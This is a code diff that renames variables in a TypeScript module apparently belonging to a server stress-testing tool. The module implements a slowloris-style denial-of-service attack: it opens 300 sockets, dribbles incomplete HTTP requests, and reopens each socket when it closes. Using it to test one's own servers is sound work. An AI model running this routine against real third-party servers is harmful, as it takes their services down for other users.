@@ -2,11 +2,11 @@ import { connect } from 'node:net';
 import { setTimeout as sleep } from 'node:timers/promises';
 import { requestCode } from '#contract/session.ts';
 import { countOne } from '../../figures.ts';
-import type { Attack, Loot } from '../target.ts';
+import type { Attack, AttackResult } from '../target.ts';
 
 const SOCKETS = 300;
 const DRIBBLE_EVERY_MS = 1000;
-const AGAIN_AFTER_MS = 1000;
+const REOPEN_AFTER_MS = 1000;
 
 const HALF_HEADERS = 'GET / HTTP/1.1\r\nHost: localhost\r\n';
 const HALF_BODY =
@@ -19,23 +19,23 @@ const BEGINNINGS = [
   [NOTHING, ''],
 ] as const;
 
-/** Connections that send a little now and then and never come to an end, opened again when they are closed. */
-export const slowSockets: Attack = async ({ url, seconds }, loot) => {
+/** Connections that send a few bytes a second and never finish a request, reopened when the server closes them. */
+export const slowSockets: Attack = async ({ url, seconds }, result) => {
   const end = performance.now() + seconds * 1000;
   const sockets = Array.from({ length: SOCKETS }, async (_, number) => {
     while (performance.now() < end) {
-      await dribble(url, loot, number);
-      await sleep(AGAIN_AFTER_MS);
+      await dribble(url, result, number);
+      await sleep(REOPEN_AFTER_MS);
     }
   });
   await Promise.all(sockets);
 };
 
-/** Until the server closes the connection. */
-function dribble(url: string, loot: Loot, number: number): Promise<void> {
+/** Resolves when the server closes the connection. */
+function dribble(url: string, result: AttackResult, number: number): Promise<void> {
   const { hostname, port } = new URL(url);
   const [beginning, more] = BEGINNINGS[number % BEGINNINGS.length] ?? BEGINNINGS[0];
-  loot.requests += 1;
+  result.requests += 1;
   return new Promise((resolve) => {
     const socket = connect(Number(port), hostname);
     let received = '';
@@ -45,7 +45,7 @@ function dribble(url: string, loot: Loot, number: number): Promise<void> {
     socket.on('error', () => socket.destroy());
     socket.on('close', () => {
       clearInterval(dribbling);
-      countOne(loot.statuses, Number(/^HTTP\/1\.1 (\d+)/.exec(received)?.[1] ?? 0));
+      countOne(result.statuses, Number(/^HTTP\/1\.1 (\d+)/.exec(received)?.[1] ?? 0));
       resolve();
     });
   });
